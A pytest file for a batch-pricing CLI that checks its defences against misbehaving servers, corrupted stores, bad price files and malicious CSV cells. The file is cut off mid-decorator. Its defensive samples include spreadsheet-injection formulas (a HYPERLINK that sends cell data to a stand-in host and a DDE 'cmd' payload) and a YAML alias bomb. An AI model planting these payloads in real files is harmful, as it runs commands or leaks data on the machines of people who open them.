"""Hostile input, third round (issue 22): no faked money, every network wait bounded, no exit 3,
no formula in a CSV. One section per class of the issue (docs/reliability.md, "Hostile input,
third round"); each test failed before its fix (the section comment says how).

The misbehaving servers are tests/fakeapi.py's Faults: drip (one byte every few seconds),
slow_down (retry-after of an hour), answer (raw bytes: a 200 that is not JSON), endless_pages
(has_more forever) and extra_result_lines (malformed lines in a results file). Whatever would
hang before its fix runs under `bounded()`, so a regression fails instead of hanging.

MODEL (claude-sonnet-5-5) is named where money is checked: the stored lines' costs and the price
files' rows are worked from its published rates. Elsewhere the model is a role (tests/roles.py).
"""
from __future__ import annotations

import csv
import hashlib
import json
import random
import shutil
import signal
import subprocess
import sys
import threading
import time
from pathlib import Path

import duckdb
import pytest

import roles
from _fixtures import PILOT
from cachecast.cli import main
from cachecast.errors import ApiError, InputError
from test_hostile import KEY, bounded, cli, one_error

MODEL = "claude-sonnet-5-5"  # the stored lines' model: the costs below are worked from its published rates


def failed(run, command: str, *needles: str, code: int = 2) -> str:
    """Exit `code`, no traceback, and exactly one error sentence on stderr holding each needle
    (commands such as probe and submit print their plan on stdout before they call the API)."""
    assert "Traceback" not in run.err, run.err
    assert run.rc == code, (run.rc, run.out, run.err)
    errors = [x for x in run.err.splitlines() if x.startswith(f"cachecast {command}: error: ")]
    assert len(errors) == 1, run.err
    for needle in needles:
        assert needle in errors[0], (needle, errors[0])
    return errors[0]


@pytest.fixture
def key(monkeypatch):
    monkeypatch.setenv("ANTHROPIC_API_KEY", KEY)


@pytest.fixture
def built(tmp_path) -> Path:
    out = tmp_path / "b"
    assert main(["build", str(PILOT), "--out", str(out), "--limit", "3"]) == 0
    return out


def _message_line(cid: str, *, usage: dict | None = None, model: str = MODEL) -> dict:
    return {"custom_id": cid, "result": {"type": "succeeded", "message": {
        "id": f"msg_01{hashlib.md5(cid.encode()).hexdigest()[:12]}", "type": "message", "role": "assistant",
        "model": model, "content": [{"type": "text", "text": "ok"}], "stop_reason": "end_turn", "stop_sequence": None,
        "usage": usage or {"input_tokens": 100, "cache_creation_input_tokens": 0, "cache_read_input_tokens": 0,
                           "output_tokens": 20, "service_tier": "batch"}}}}


def _errored_line(cid: str, message: str) -> dict:
    return {"custom_id": cid, "result": {"type": "errored", "error": {"type": "error", "error": {
        "type": "invalid_request_error", "message": message}}}}


def _batch(fake_api, n: int = 2) -> str:
    """A batch of n valid requests, created past cachecast (the test's own client), ended."""
    batch = fake_api.client().messages.batches.create(requests=[
        {"custom_id": f"r{i}", "params": {"model": roles.default(), "max_tokens": 64,
                                          "messages": [{"role": "user", "content": f"Say {i}."}]}}
        for i in range(n)])
    return batch.id


def _run_store(tmp_path: Path, *, run_name: str = "pilot", lines: list[dict] | None = None,
               name: str = "s.duckdb") -> Path:
    """A store with one run (build.json + manifest) and one batch of `lines` (default: 3 requests)."""
    lines = lines or [_message_line(f"c{i}") for i in range(3)]
    build = tmp_path / f"build-{name}"
    build.mkdir()
    rows = [{"custom_id": x["custom_id"], "item_id": f"i{i}", "treatment": "control", "temperature": None,
             "repeat": 1, "model": MODEL, "ttl": "5m", "prefix_hash": "p" * 16, "cacheable": True,
             "skip_reason": None, "est_prefix_tokens": 0, "est_rest_tokens": 100, "breakpoints": 1,
             "shard": "requests-0001.jsonl"} for i, x in enumerate(lines)]
    (build / "manifest.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows))
    (build / "build.json").write_text(json.dumps({"run_name": run_name, "config_fingerprint": "f" * 16,
                                                  "requests": len(rows), "budget_usd": 10}))
    results = tmp_path / f"results-{name}.jsonl"
    results.write_text("".join(json.dumps(x) + "\n" for x in lines))
    db = tmp_path / name
    assert main(["ingest", str(results), "--db", str(db), "--manifest", str(build), "--batch-id",
                 "msgbatch_01Run", "--priced-at", "2026-12-01"]) == 0
    return db


# =================================================================================================
# Money 1. A file whose stat size is 0 but which has content when read (files under /proc, some
#    FUSE mounts) was "0 lines read", rc 0: DuckDB sizes what it reads by stat. Now it is read to
#    its end. The file here is /proc/PID/cmdline of a process whose argument holds a result line.
# =================================================================================================

@pytest.fixture
def proc_file():
    line = json.dumps(_message_line("from-proc"))
    child = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)", "\n" + line + "\n"])
    try:
        path = Path(f"/proc/{child.pid}/cmdline")
        for _ in range(100):  # until the child has exec'd: its cmdline then holds the line
            if line.encode() in path.read_bytes():
                break
            time.sleep(0.05)
        assert path.stat().st_size == 0 and line.encode() in path.read_bytes()
        yield path
    finally:
        child.kill()
        child.wait()


@pytest.mark.parametrize("with_other", [False, True], ids=["one file", "among many files"])
def test_a_file_stat_calls_empty_is_read_to_its_end(proc_file, tmp_path, capsys, with_other):
    db = tmp_path / "s.duckdb"
    other = tmp_path / "other.jsonl"
    other.write_text(json.dumps(_message_line("other")) + "\n")
    run = cli(capsys, "ingest", proc_file, *([other] if with_other else []), "--db", db)
    assert run.rc == 0 and "Traceback" not in run.err, run.err
    # argv: "python\0-c\0import...\0" | the result line | "\0": 3 lines, 1 a result, 2 with NUL bytes
    assert f"{proc_file}: 3 lines read = 1 ingested + 0 duplicates + 2 quarantined" in run.out, run.out
    conn = duckdb.connect(str(db), read_only=True)
    assert ("from-proc",) in conn.execute("SELECT custom_id FROM results").fetchall()
    conn.close()


# =================================================================================================
# Money 2. A server's usage numbers went into money unchecked: a probe answering input_tokens
#    -200,000,000 was stored as a -$400 probe cost (the ledger's spend fell below zero), "lots"
#    or NaN ended in exit 3. Now every usage number from a server goes through cachecast._bounds
#    (the ingest's bounds): refused in one sentence and never stored.
# =================================================================================================

def _message_body(usage: str) -> str:
    """A Message as the API sends it, with `usage` as raw JSON text (so NaN can be planted)."""
    return ('{"id": "msg_01Probe", "type": "message", "role": "assistant", "model": "' + roles.default() + '", '
            '"content": [], "stop_reason": "max_tokens", "stop_sequence": null, "usage": ' + usage + '}')


BAD_USAGE = {
    "negative": ('{"input_tokens": -200000000, "output_tokens": 0}', "usage.input_tokens is negative"),
    "absurd": ('{"input_tokens": 5, "output_tokens": 0, "cache_creation_input_tokens": 1000000000000}',
               "cache_creation_input_tokens"),
    "lots": ('{"input_tokens": "lots", "output_tokens": 0}', "input_tokens is a string"),
    "nan": ('{"input_tokens": NaN, "output_tokens": 0}', "input_tokens is a number (NaN)"),
    "float": ('{"input_tokens": 12.5, "output_tokens": 0}', "input_tokens is a number (12.5)"),
}


@pytest.mark.parametrize("prewarm", [False, True], ids=["probe", "pre-warm"])
@pytest.mark.parametrize("case", sorted(BAD_USAGE))
def test_a_probe_answer_with_impossible_usage_is_refused_and_not_stored(fake_api, key, built, tmp_path, capsys,
                                                                         case, prewarm):
    body, needle = BAD_USAGE[case]
    fake_api.faults.answer(_message_body(body), path="/v1/messages", method="POST", times=None)
    db = tmp_path / "probes.duckdb"
    run = cli(capsys, "probe", built, "--base-url", fake_api.url, "--db", db, *(["--prewarm"] if prewarm else []))
    line = failed(run, "probe", needle)
    assert "POST /v1/messages" in line or "not a token count" in line
    if db.exists():  # nothing stored: no negative probe cost can lower the ledger's spend
        conn = duckdb.connect(str(db), read_only=True)
        assert conn.execute("SELECT count(*) FROM probes").fetchone()[0] == 0
        conn.close()


@pytest.mark.parametrize("answer, needle", [("-5", "is negative"), ('"lots"', "is a string"),
                                            ("NaN", "(NaN)"), ("100000000000", "implausibly large")],
                         ids=["negative", "lots", "nan", "absurd"])
def test_count_tokens_answers_get_the_same_bounds(fake_api, key, built, tmp_path, capsys, monkeypatch, answer, needle):
    monkeypatch.setenv("ANTHROPIC_BASE_URL", fake_api.url)
    fake_api.faults.answer('{"input_tokens": ' + answer + '}', path="/v1/messages/count_tokens", times=None)
    db = tmp_path / "c.duckdb"
    run = cli(capsys, "count", built, "--exact", "--db", db, "--max-retries", "0")
    failed(run, "count", needle)
    if db.exists():
        conn = duckdb.connect(str(db), read_only=True)
        assert conn.execute("SELECT count(*) FROM token_counts").fetchone()[0] == 0
        conn.close()


def test_a_models_answer_with_an_impossible_token_limit_is_not_stored(fake_api, key, capsys):
    from fakeapi_models import model_info
    from cachecast.facts import model_cache, models

    rows = [model_info(f, models.today()) for f in models.all_models()]
    rows[0]["max_tokens"] = -64000
    page = {"data": rows, "has_more": False, "first_id": rows[0]["id"], "last_id": rows[-1]["id"]}
    fake_api.faults.answer(json.dumps(page), path="/v1/models", method="GET")
    run = cli(capsys, "models", "--refresh", "--base-url", fake_api.url)
    failed(run, "models", "max_tokens is -64,000", "nothing was stored")
    assert not model_cache.refresh_path().exists()


def test_the_shared_bound_is_the_ingest_bound():
    """One limit for every usage number: the SQL that quarantines ingested lines says the same."""
    from cachecast import _bounds
    from cachecast.store import read_sql

    sql = read_sql("store/ingest.sql")
    assert f"> {_bounds.MAX_TOKENS}" in sql and f"<= {_bounds.MAX_TOKENS}" in sql
    assert _bounds.token_problem(_bounds.MAX_TOKENS) is None
    assert "implausibly large" in _bounds.token_problem(_bounds.MAX_TOKENS + 1)
    assert [_bounds.token_problem(v) is None for v in (0, 7, True, -1, 1.0, "3", None, float("nan"))] == [
        True, True, False, False, False, False, False, False]


# =================================================================================================
# Money 3. Price files were read with yaml.safe_load: a key given twice kept the last value (a
#    rate a million times lower, silently) and 1e400 ended in Decimal's InvalidOperation (exit 3).
#    Now the configs' bounded, duplicate-refusing loader reads them, and a rate must be finite
#    and at most 10,000 $/MTok.
# =================================================================================================

PRICE_FILES = {
    "duplicate-key": ("models:\n  claude-sonnet-5-5: {input: 2, write_5m: 2.5, write_1h: 4, read: 0.1, output: 10}\n"
                      "  claude-sonnet-5-5: {input: 0.000002, write_5m: 2.5, write_1h: 4, read: 0.1, output: 10}\n",
                      "is given twice"),
    "duplicate-rate": ("models:\n  claude-sonnet-5-5:\n    input: 2\n    input: 0.000002\n    write_5m: 2.5\n"
                       "    write_1h: 4\n    read: 0.1\n    output: 10\n", "'input' is given twice"),
    "1e400": ("models:\n  claude-sonnet-5-5: {input: 1e400, write_5m: 2.5, write_1h: 4, read: 0.1, output: 10}\n",
              "1e400 is not a plausible rate"),
    "infinity": ("models:\n  claude-sonnet-5-5: {input: .inf, write_5m: 2.5, write_1h: 4, read: 0.1, output: 10}\n",
                 "is not a plausible rate"),
    "nan": ("models:\n  claude-sonnet-5-5: {input: .nan, write_5m: 2.5, write_1h: 4, read: 0.1, output: 10}\n",
            "is not a plausible rate"),
    "absurd": ("models:\n  claude-sonnet-5-5: {input: 2, write_5m: 2.5, write_1h: 4, read: 0.1, output: 1e+30}\n",
               "is not a plausible rate"),
    "aliases": ("a: &a [1,1,1,1,1,1,1,1,1,1]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b,*b]\n"
                "d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d,*d]\n"
                "f: [*e,*e,*e,*e,*e,*e,*e,*e,*e,*e]\nmodels: {}\n", "aliases expand"),
}


@pytest.mark.parametrize("case", sorted(PRICE_FILES))
@pytest.mark.parametrize("command", ["audit", "ledger"])
def test_a_price_file_is_read_as_strictly_as_a_config(tmp_path, capsys, case, command):
    db = _run_store(tmp_path)
    text, needle = PRICE_FILES[case]
    prices = tmp_path / "prices.yaml"
    prices.write_text(text)
    with bounded(seconds=30):
        run = cli(capsys, command, "--db", db, "--prices", prices, "--json")
    one_error(run, command, str(prices), needle)


# =================================================================================================
# Money 4. `ledger --prices FILE` (and `audit --prices`) re-priced the store for every later
#    command. Now --prices is a what-if for the command's own connection (never committed);
#    --store-prices keeps the rates for later commands.
# =================================================================================================

CHEAP = ("batch_multiplier: 0.5\nsource: what-if\nmodels:\n  claude-sonnet-5-5: "
         "{input: 0.2, write_5m: 0.25, write_1h: 0.4, read: 0.01, output: 1}\n")


@pytest.mark.parametrize("command, field", [("ledger", "spent_usd"), ("audit", "cost_usd")])
def test_prices_for_one_command_do_not_change_the_store(tmp_path, capsys, command, field):
    db = _run_store(tmp_path)
    prices = tmp_path / "cheap.yaml"
    prices.write_text(CHEAP)

    def value(*extra) -> float:
        run = cli(capsys, command, "--db", db, "--json", *extra)
        assert run.rc == 0, run.err
        return json.loads(run.out)[field]

    # 3 lines x (100 input x $1/MTok + 20 output x $5/MTok) at batch rates = 3 x 200 = 600 u$ = $0.0006
    # (Sonnet 5.5 standard 2 / 10 $/MTok, halved for a batch); cheap.yaml: 0.1 / 0.5 -> $0.00006
    assert value() == 0.0006
    assert value("--prices", prices) == 0.00006
    assert value() == 0.0006  # the what-if left the store as it was
    assert value("--prices", prices, "--store-prices") == 0.00006
    assert value() == 0.00006  # kept, because it was asked for


def test_the_reports_take_prices_as_a_what_if_too(tmp_path, capsys):
    """The ledger and audit notebooks read through read-only connections: the what-if is a temp
    copy of the prices on each of them, and the store keeps its own."""
    from cachecast.analyse import ledger
    from cachecast.report import audit_view

    db = _run_store(tmp_path)
    prices = tmp_path / "cheap.yaml"
    prices.write_text(CHEAP)
    view = ledger.open_ledger(str(db), prices=str(prices))
    assert float(view.ledger.spent_usd) == 0.00006  # 3 x (100 x 0.1 + 20 x 0.5) u$, as above
    audit = audit_view.open_audit(str(db), overrides=prices)
    assert float(audit.totals.cost_usd) == 0.00006 and len(audit.treatments())
    assert float(ledger.open_ledger(str(db)).ledger.spent_usd) == 0.0006  # the store kept its prices
    run = cli(capsys, "audit", "--db", db, "--json")
    assert json.loads(run.out)["cost_usd"] == 0.0006


# =================================================================================================
# Network 1. A server that holds the connection and drips one byte every few seconds defeated
#    the per-read --timeout: each read returns in time, the answer never ends. Now every API
#    call has one deadline (--call-deadline) over its attempts, retry waits and whole answer,
#    and the sentence says what did not answer and what was kept. Before: no such option.
# =================================================================================================

def _api_case(command: str, fake_api, built: Path, tmp_path: Path) -> tuple[list, str, str, str]:
    """(argv, method, path, what the sentence says was kept) for one API command."""
    url = ["--base-url", fake_api.url]
    if command == "submit":
        return ["submit", built, "--no-probe", *url], "POST", "/v1/messages/batches", "recorded in"
    if command == "probe":
        return ["probe", built, "--db", tmp_path / "p.duckdb", *url], "POST", "/v1/messages", \
            "probes answered before it are stored"
    if command == "fetch":
        batch = _batch(fake_api)
        return ["fetch", batch, "--out", tmp_path / "r.jsonl", *url], "GET", f"/v1/messages/batches/{batch}/results", \
            "run the same fetch again"
    if command == "status":
        batch = _batch(fake_api)
        return ["status", batch, *url], "GET", f"/v1/messages/batches/{batch}", "nothing was changed"
    if command == "count":
        return ["count", built, "--exact", "--db", tmp_path / "c.duckdb"], "POST", "/v1/messages/count_tokens", \
            "counts so far are saved"
    assert command == "models"
    return ["models", "--refresh", *url], "GET", "/v1/models", "nothing was stored and the models cache"


API_COMMANDS = ["submit", "probe", "fetch", "status", "count", "models"]


@pytest.mark.parametrize("command", API_COMMANDS)
def test_a_dripping_server_is_stopped_by_the_call_deadline(fake_api, key, built, tmp_path, capsys, monkeypatch,
                                                          command):
    monkeypatch.setenv("ANTHROPIC_BASE_URL", fake_api.url)  # count reads it, as the SDK does
    argv, method, path, kept = _api_case(command, fake_api, built, tmp_path)
    fake_api.faults.drip(0.3, times=None, path=path, method=method)
    started = time.monotonic()
    with bounded(seconds=60):
        run = cli(capsys, *argv, "--timeout", "2", "--call-deadline", "2", "--max-retries", "2")
    line = failed(run, command, f"{method} {path} did not finish answering within 2 s", kept)
    assert time.monotonic() - started < 20, line


@pytest.mark.parametrize("command", API_COMMANDS)
def test_a_retry_after_of_an_hour_is_refused_not_waited(fake_api, key, built, tmp_path, capsys, monkeypatch, command):
    monkeypatch.setenv("ANTHROPIC_BASE_URL", fake_api.url)
    argv, method, path, kept = _api_case(command, fake_api, built, tmp_path)
    fake_api.faults.slow_down(3600, path=path, method=method)
    started = time.monotonic()
    with bounded(seconds=60):  # before: the SDK slept the hour
        run = cli(capsys, *argv, "--max-retries", "3")
    failed(run, command, "asked to wait 3,600 s before retrying (retry-after)", "at most 60 s", kept)
    assert time.monotonic() - started < 20


def test_a_retry_after_within_the_cap_is_still_honoured(fake_api, key, built, capsys):
    fake_api.faults.slow_down(1, times=1, path="/v1/messages/batches", method="POST")
    run = cli(capsys, "submit", built, "--no-probe", "--base-url", fake_api.url, "--max-retries", "1")
    assert run.rc == 0, run.err
    assert fake_api.paths("POST").count("/v1/messages/batches") == 2


def test_a_listing_that_never_ends_is_cut_at_the_page_limit(fake_api, key, capsys):
    from cachecast.facts import model_cache

    fake_api.faults.endless_pages = True
    with bounded(seconds=60):  # before: followed has_more forever
        run = cli(capsys, "models", "--refresh", "--base-url", fake_api.url)
    failed(run, "models", "still said has_more after 50 pages", "nothing was stored and the models cache")
    assert not model_cache.refresh_path().exists()
    assert fake_api.paths("GET").count("/v1/models") == 50


def test_the_admin_client_for_reconcile_is_held_to_the_same_guard(fake_api, monkeypatch):
    """reconcile builds its client through api.make_admin_client and lists through api.list_all."""
    from cachecast.send import api

    monkeypatch.setenv("ANTHROPIC_ADMIN_KEY", "sk-ant-admin01-test-reconcile-key")
    monkeypatch.delenv("ANTHROPIC_API_KEY", raising=False)
    client = api.make_admin_client(fake_api.url, max_retries=1, timeout=2, call_deadline=2)
    fake_api.faults.endless_pages = True
    with bounded(seconds=60), pytest.raises(ApiError, match="still said has_more after 50 pages"):
        api.list_all(client, lambda: client.models.list(limit=5), "the Admin API")
    fake_api.faults.endless_pages = False
    fake_api.faults.drip(0.3, times=None, path="/v1/models")
    started = time.monotonic()
    with bounded(seconds=60), pytest.raises(ApiError, match="did not finish answering within 2 s"):
        api.list_all(client, lambda: client.models.list(limit=5), "the Admin API")
    assert time.monotonic() - started < 15
    from cachecast.errors import redact

    assert redact("echoed sk-ant-admin01-test-reconcile-key") == "echoed [redacted]"  # redacted like the API key
    monkeypatch.delenv("ANTHROPIC_ADMIN_KEY")
    with pytest.raises(ApiError, match="ANTHROPIC_ADMIN_KEY is not set"):
        api.make_admin_client(fake_api.url)


RECONCILE = ["--since", "2026-11-30", "--until", "2026-12-01", "--no-save"]
COST_PATH = "/v1/organizations/analytics/cost"


@pytest.mark.parametrize("fault", ["drip", "retry-after", "endless"])
def test_reconcile_is_held_to_the_same_guard(fake_api, tmp_path, capsys, monkeypatch, fault):
    monkeypatch.setenv("ANTHROPIC_ADMIN_KEY", "sk-ant-admin01-test-reconcile-key")
    db = _run_store(tmp_path)
    if fault == "drip":
        fake_api.faults.drip(0.3, times=None, path=COST_PATH)
        needle = f"GET {COST_PATH} did not finish answering within 2 s"
    elif fault == "retry-after":
        fake_api.faults.slow_down(3600, path=COST_PATH)
        needle = "asked to wait 3,600 s before retrying"
    else:
        page = {"data": [], "has_more": True, "next_page": "page_again", "data_refreshed_at": "2026-12-01T00:00:00Z"}
        fake_api.faults.answer(json.dumps(page), path=COST_PATH, times=None)
        needle = "the cost report still said has_more after 50 pages"
    started = time.monotonic()
    with bounded(seconds=60):  # before: the drip, the hour and the endless pages each held it
        run = cli(capsys, "reconcile", "--db", db, "--base-url", fake_api.url, *RECONCILE, "--timeout", "2",
                  "--call-deadline", "2")
    failed(run, "reconcile", needle, "nothing was compared or saved")
    assert time.monotonic() - started < 20


# =================================================================================================
# Network 2. A 200 whose body is not JSON ended in JSONDecodeError (exit 3); one whose JSON lacks
#    what the SDK's type requires ended in AttributeError later (or a misleading "batch id null").
#    Now: exit 2, one sentence naming the endpoint and quoting the start of the body, redacted.
# =================================================================================================

BODIES = {
    "html": (b"<html><head><title>Gateway</title></head><body>" + b"x" * 5000 + b"</body></html>", "text/html",
             "with a body that is not JSON (text/html"),
    "json-type-not-json": (b"upstream connect error " + KEY.encode(), "application/json",
                           "with a body that is not JSON (application/json"),
    "empty": (b"", "application/json", "with a body that is not JSON"),
    "lacks-fields": (json.dumps({"id": "msgbatch_01Lacks", "echo": KEY}).encode(), "application/json",
                     "without what the SDK needs"),
    "wrong-kind": (json.dumps([1, 2, 3]).encode(), "application/json", "without what the SDK needs"),
}


@pytest.mark.parametrize("body", sorted(BODIES))
@pytest.mark.parametrize("command", API_COMMANDS)
def test_a_200_the_sdk_cannot_use_is_one_sentence(fake_api, key, built, tmp_path, capsys, monkeypatch, command, body):
    monkeypatch.setenv("ANTHROPIC_BASE_URL", fake_api.url)
    argv, method, path, _ = _api_case(command, fake_api, built, tmp_path)
    if command == "fetch":  # the results stream is JSON lines, not JSON: its first call is the batch's status
        path = path.removesuffix("/results")
    data, content_type, needle = BODIES[body]
    fake_api.faults.answer(data, content_type=content_type, path=path, method=method, times=None)
    run = cli(capsys, *argv, "--max-retries", "0")
    line = failed(run, command, f"{method} {path} answered HTTP 200", needle)
    assert KEY not in line and len(line) < 700, line


# =================================================================================================
# Network 3. Malformed result lines crashed fetch (KeyError on custom_id, TypeError on a JSON
#    array, ValueError on a usage "lots"), and its resume bookkeeping indexed a line before
#    checking it. Now the lines are kept as received, counted as malformed (exit 1), and ingest
#    quarantines them with their reasons.
# =================================================================================================

MALFORMED = {
    "no-custom-id": (json.dumps({"result": {"type": "succeeded"}}), "custom_id missing"),
    "array": ("[1, 2, 3]", "not a result line"),
    "absurd-usage": (json.dumps(_message_line("big", usage={"input_tokens": 10**12, "output_tokens": 1})),
                     "usage.input_tokens is implausibly large"),
    "string-usage": (json.dumps(_message_line("lots", usage={"input_tokens": "lots", "output_tokens": 1})),
                     "usage.input_tokens is a string"),
    "not-json": ('{"custom_id": "torn", "result": {', "not JSON"),
}


def test_fetch_keeps_malformed_lines_as_received_and_ingest_quarantines_them(fake_api, key, tmp_path, capsys):
    batch = _batch(fake_api, 2)
    fake_api.faults.extra_result_lines = [text for text, _ in MALFORMED.values()]
    out, db = tmp_path / "r.jsonl", tmp_path / "s.duckdb"
    run = cli(capsys, "fetch", batch, "--out", out, "--db", db, "--base-url", fake_api.url)
    assert run.rc == 1 and "Traceback" not in run.err, run.err
    assert "5 line(s) from the server are not usable result lines" in run.err
    sent = fake_api.results_lines(batch) + fake_api.faults.extra_result_lines
    assert out.read_text().splitlines() == sent  # as received
    conn = duckdb.connect(str(db), read_only=True)
    reasons = [r[0] for r in conn.execute("SELECT reason FROM quarantine ORDER BY line_no").fetchall()]
    conn.close()
    assert len(reasons) == 5
    for (_, why), reason in zip(MALFORMED.values(), reasons):
        assert why.split(" is ")[0].split(" (")[0] in reason, (why, reason)


def test_a_resumed_download_does_not_index_a_line_before_checking_it(fake_api, key, tmp_path, capsys):
    batch = _batch(fake_api, 2)
    fake_api.faults.extra_result_lines = ["[1, 2, 3]", json.dumps({"no": "custom_id"}), "[1, 2, 3]"]
    sent = fake_api.results_lines(batch) + fake_api.faults.extra_result_lines
    out = tmp_path / "r.jsonl"
    out.with_name("r.jsonl.part").write_text("\n".join(sent[:3]) + "\n" + sent[3][:4])  # interrupted mid-line 4
    run = cli(capsys, "fetch", batch, "--out", out, "--base-url", fake_api.url, "--json")
    assert run.rc == 1 and "Traceback" not in run.err, run.err  # before: TypeError (exit 3)
    summary = json.loads(run.out)
    assert out.read_text().splitlines() == sent and summary["resumed_lines"] == 3 and summary["malformed"] == 3


# =================================================================================================
# Files written for people 2. A server echoing the API key inside a result line's error message:
#    the store was redacted, the results file fetch saved was not. Now the saved file is redacted
#    too and the batch record (batches.json) says how many lines were.
# =================================================================================================

def test_the_key_echoed_into_a_result_line_is_redacted_in_the_saved_file(fake_api, key, tmp_path, capsys):
    batch = _batch(fake_api, 1)
    echo = json.dumps(_errored_line("echo", f"invalid x-api-key header: {KEY}"))
    fake_api.faults.extra_result_lines = [echo]
    out = tmp_path / "r.jsonl"
    run = cli(capsys, "fetch", batch, "--out", out, "--base-url", fake_api.url, "--json")
    assert run.rc == 1, run.err  # the echoing line is an errored line
    assert KEY.encode() not in out.read_bytes() and b"[redacted]" in out.read_bytes()
    assert json.loads(run.out)["redacted_lines"] == 1
    assert KEY not in run.out + run.err


def test_a_redaction_is_recorded_in_the_batch_records(fake_api, key, built, capsys):
    fake_api.faults.extra_result_lines = [json.dumps(_errored_line("echo", f"key {KEY} is not allowed"))]
    run = cli(capsys, "submit", built, "--wait", "--no-probe", "--base-url", fake_api.url, "--poll-interval", "0")
    assert run.rc == 1 and "saved as [redacted]" in run.err, run.err
    record = json.loads((built / "batches.json").read_text())["batches"][0]
    assert record["redacted_lines"] == 1
    assert KEY.encode() not in (built / record["results"]).read_bytes()
    assert KEY not in (built / "batches.json").read_text()


# =================================================================================================
# Store. A store with random bytes over a data block: DuckDB reports a checksum mismatch in the
#    query that reads the block, which was exit 3 (audit, export); at open it was "is not a
#    cachecast store". Now every read command says "the store is damaged at PATH; restore ...".
# =================================================================================================

def _blocks(db: Path) -> list[int]:
    """Offsets inside each 256 KiB block after DuckDB's 12 KiB of headers."""
    return list(range(12288 + 64, db.stat().st_size, 262144))


def _damaged(db: Path, offset: int, to: Path) -> Path:
    shutil.copy(db, to)
    with open(to, "r+b") as fh:
        fh.seek(offset)
        fh.write(random.Random(offset).randbytes(64))
    return to


@pytest.mark.parametrize("command", ["audit", "ledger", "export"])
def test_every_damaged_block_is_one_sentence_never_exit_3(tmp_path, capsys, command):
    db = _run_store(tmp_path)
    damaged = 0
    for offset in _blocks(db):
        copy = _damaged(db, offset, tmp_path / f"d{offset}.duckdb")
        extra = ["--out", tmp_path / f"x{offset}"] if command == "export" else ["--json"]
        run = cli(capsys, command, "--db", copy, *extra)
        assert run.rc in (0, 2) and "Traceback" not in run.err, (offset, run.rc, run.err)
        if run.rc == 2:
            one_error(run, command, f"the store is damaged at {copy}", "restore it from a copy or re-ingest")
            damaged += 1
    assert damaged >= 1  # the first data block (catalog) is always read


@pytest.mark.slow
def test_a_report_on_a_damaged_store_says_so(tmp_path, capsys):
    db = _run_store(tmp_path)
    copy = _damaged(db, _blocks(db)[0], tmp_path / "damaged.duckdb")
    run = cli(capsys, "report", "ledger", "-p", "db_path", copy, "--out", tmp_path / "r.html")
    err = [x for x in run.err.splitlines() if "error" in x]
    assert run.rc == 2 and len(err) == 1 and f"the store is damaged at {copy}" in err[0], run.err


def test_damage_found_in_a_query_is_named_too():
    from cachecast.store import damage_sentence

    text = ("IO Error: Corrupt database file: computed checksum 1187 does not match stored checksum 5931 in block "
            "at location 274432")
    assert damage_sentence(text, "s.duckdb").startswith("the store is damaged at s.duckdb")
    assert damage_sentence("Binder Error: no such column", "s.duckdb") is None


# =================================================================================================
# Files written for people 1. CSV formula injection: custom_ids, error messages and run names
#    starting with = + - @ were written as they are, so a spreadsheet ran them. Now every text
#    cell of every CSV cachecast writes is prefixed with a single quote (OWASP).
# =================================================================================================

HOSTILE_CELLS = ['=HYPERLINK("http://x/?"&A1,"c")', "+SUM(1,2)", "-2+3", "@SUM(1)", "=cmd|' /C calc'!A0"]


def _cells(folder: Path) -> list[str]:
    return [cell for path in sorted(folder.glob("*.csv")) for row in csv.reader(path.open()) for cell in row]


def _is_number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


def test_no_csv_cell_starts_a_formula(tmp_path, capsys):
    lines = [_message_line(HOSTILE_CELLS[0]), _message_line("ok-1")]
    lines += [_errored_line(f"e{i}", text) for i, text in enumerate(HOSTILE_CELLS[1:])]
    db = _run_store(tmp_path, run_name="=1+1", lines=lines)
    for command in ("audit", "ledger"):
        folder = tmp_path / f"{command}-csv"
        run = cli(capsys, command, "--db", db, "--csv", folder)
        assert run.rc == 0, run.err
        cells = _cells(folder)
        unsafe = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r")) and not _is_number(c)]
        assert cells and unsafe == [], (command, unsafe)
    audit_cells = _cells(tmp_path / "audit-csv")
    assert "'" + HOSTILE_CELLS[0] in audit_cells and "'+SUM(1,2)" in " ".join(audit_cells)
    assert "'=1+1" in _cells(tmp_path / "ledger-csv")


def test_every_text_cell_is_neutralised_as_owasp_says():
    import pandas as pd

    from cachecast._csv import neutralise, safe_frame

    assert [neutralise(v) for v in ("=1", "+1", "-1", "@a", "\tx", "\rx", "a=1", "", -1, 2.5, None)] == [
        "'=1", "'+1", "'-1", "'@a", "'\tx", "'\rx", "a=1", "", -1, 2.5, None]
    frame = safe_frame(pd.DataFrame({"=name": ["@x", "ok"], "n": [-1, 2]}))
    assert list(frame.columns) == ["'=name", "n"] and frame["'=name"].tolist() == ["'@x", "ok"]
    assert frame["n"].tolist() == [-1, 2]


# =================================================================================================
# Messages that quote files. `report project -p config /etc/shadow` quoted the file's first line
#    in an "unknown key" sentence; PyYAML's problems quoted aliases and tags of a file that is not
#    YAML; `ledger --csv /` wrote into / while `export` refused it; a full disk said "the
#    database" whatever file it was; a retired model without a date "was retired on None".
# =================================================================================================

SHADOW = "root:$6$SECRETsaltHASH:20228:0:99999:7:::\ndaemon:*:20228:0:99999:7:::\n"


@pytest.mark.parametrize("command", ["project", "build"])
def test_a_file_that_is_not_a_config_is_named_not_quoted(tmp_path, capsys, command):
    shadow = tmp_path / "shadow"
    shadow.write_text(SHADOW)
    line = one_error(cli(capsys, command, shadow), command, f"{shadow}: is not a cachecast run config")
    line = line.replace(str(shadow), "FILE")
    assert "SECRET" not in line and "root" not in line and "daemon" not in line


@pytest.mark.slow
def test_report_project_with_a_file_that_is_not_a_config(tmp_path, capsys):
    shadow = tmp_path / "shadow"
    shadow.write_text(SHADOW)
    run = cli(capsys, "report", "project", "-p", "config", shadow, "--out", tmp_path / "r.html")
    err = [x for x in run.err.splitlines() if "error" in x]
    assert run.rc == 2 and len(err) == 1 and "is not a cachecast run config" in err[0], run.err
    shown = run.err.replace(str(shadow), "FILE").replace(str(tmp_path), "TMP")
    assert "SECRET" not in shown and "root:" not in shown


@pytest.mark.parametrize("text, secret", [("a: *secret_alias_name\n", "secret_alias_name"),
                                          ("a: !secret_tag_name x\n", "secret_tag_name")])
